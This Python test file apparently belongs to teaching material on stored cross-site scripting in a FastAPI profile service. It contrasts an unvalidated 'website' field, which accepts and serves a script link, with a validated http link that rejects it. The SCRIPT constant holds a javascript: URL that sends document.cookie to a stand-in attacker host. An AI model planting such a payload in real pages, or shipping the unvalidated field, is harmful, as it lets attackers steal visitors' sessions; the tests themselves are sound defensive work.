"""A profile whose link is a script."""

from collections.abc import Awaitable, Callable

import pytest
from fastapi import APIRouter, FastAPI
from httpx import Request, Response
from sqlalchemy import MetaData

from antipatterns.values import link_as_text as wrong
from app.core.database import Database, unit_of_work
from patterns.values import http_link as right

type Ask = Callable[[FastAPI, Request], Awaitable[Response]]
type CreateTables = Callable[[MetaData], Awaitable[None]]

URL = "http://shop/profiles/1"
SCRIPT = "javascript:fetch('//evil.example/'+document.cookie)"
LINK = "https://example.com/ann"


@pytest.fixture
def app(database: Database) -> FastAPI:
    """Return an app without routes."""
    app = FastAPI()
    app.state.database = database
    return app


async def update(
    app: FastAPI, ask: Ask, router: APIRouter, website: str
) -> tuple[int, object]:
    """Update the link; return the status, and the link that others see then."""
    app.include_router(router)
    updated = await ask(app, Request("PUT", URL, json={"website": website}))
    read = await ask(app, Request("GET", f"{URL}/website"))
    return updated.status_code, read.json()


async def test_script_is_returned_as_a_link(
    app: FastAPI,
    ask: Ask,
    database: Database,
    create_tables: CreateTables,
    measured: Callable[[str], None],
) -> None:
    await create_tables(wrong.Base.metadata)
    async with unit_of_work(database) as session:
        session.add(wrong.Profile(id=1, website=LINK))

    status, website = await update(app, ask, wrong.router, SCRIPT)

    assert (status, website) == (200, SCRIPT)
    measured(
        f"A link that begins with `{SCRIPT[:11]}` was answered {status}, and returned"
        " to every reader of the profile."
    )


@pytest.fixture
async def right_app(
    app: FastAPI, database: Database, create_tables: CreateTables
) -> FastAPI:
    """Return the app with a profile in its database."""
    await create_tables(right.Base.metadata)
    async with unit_of_work(database) as session:
        session.add(right.Profile(id=1, website=LINK))
    return app


@pytest.mark.parametrize(
    ("website", "outcome"),
    [
        (SCRIPT, (422, LINK)),
        ("https://ann.example", (200, "https://ann.example/")),
    ],
)
async def test_link_has_an_http_scheme(
    right_app: FastAPI, ask: Ask, website: str, outcome: tuple[int, str]
) -> None:
    assert await update(right_app, ask, right.router, website) == outcome
